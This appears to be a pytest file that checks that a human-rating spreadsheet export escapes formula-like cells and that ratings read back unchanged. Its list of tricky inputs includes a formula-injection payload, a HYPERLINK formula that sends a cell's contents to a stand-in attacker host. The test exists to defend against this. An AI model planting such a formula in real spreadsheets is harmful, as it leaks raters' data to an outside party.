"""Cells a spreadsheet could run as formulas are escaped in the files raters open, and
reading ratings back reverses it: nothing is evaluated, nothing is lost."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from types import SimpleNamespace

import pytest

from matrix_align.humaneval.cells import escape_cell, unescape_cell
from matrix_align.humaneval.ratings import read_ratings
from matrix_align.humaneval.sheet import Row, sheet_csv

TRICKY = [
    '=HYPERLINK("http://evil.example/?"&E2, "see")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\tindented",
    "\rreturn",
    "'=already escaped looking",
    "''-two apostrophes",
    "'just a quote",
    "plain text",
    "a = b",
    "",
]


@pytest.mark.parametrize("text", TRICKY)
def test_escaping_is_safe_and_reversible(text: str) -> None:
    escaped = escape_cell(text)
    assert not escaped[:1] or escaped[0] not in "=+-@\t\r"  # never starts a formula
    assert unescape_cell(escaped) == text


def test_the_sheet_escapes_answers_and_reads_back_unchanged() -> None:
    rows = [
        Row(
            row=1,
            benchmark="advbench",
            item_id="x",
            category="-cat",
            prompt="=1+1",
            answers=(SimpleNamespace(answer=TRICKY[0]), SimpleNamespace(answer="@me")),
            entries=("a", "b"),
        )
    ]
    text = sheet_csv("abc123", rows)
    (header, line) = list(csv.reader(io.StringIO(text)))
    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in line)
    cells = dict(zip(header, map(unescape_cell, line), strict=True))
    assert (cells["prompt"], cells["category"]) == ("=1+1", "-cat")
    assert (cells["response_a"], cells["response_b"]) == (TRICKY[0], "@me")


def test_import_reverses_the_escape(tmp_path: Path) -> None:
    """A returned sheet whose rater and comment cells were escaped (as the form escapes
    them) is read as the rater wrote them."""
    path = tmp_path / "ratings.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["sheet", "row", "rater", "rating", "comment"])
        writer.writerow(["abc123", "1", escape_cell("@alice"), "A", escape_cell("=2 is better")])
    (rating,) = read_ratings([path], {"sheet": "abc123", "rows": [{}]})
    assert (rating.rater, rating.comment, rating.rating) == ("@alice", "=2 is better", "A")
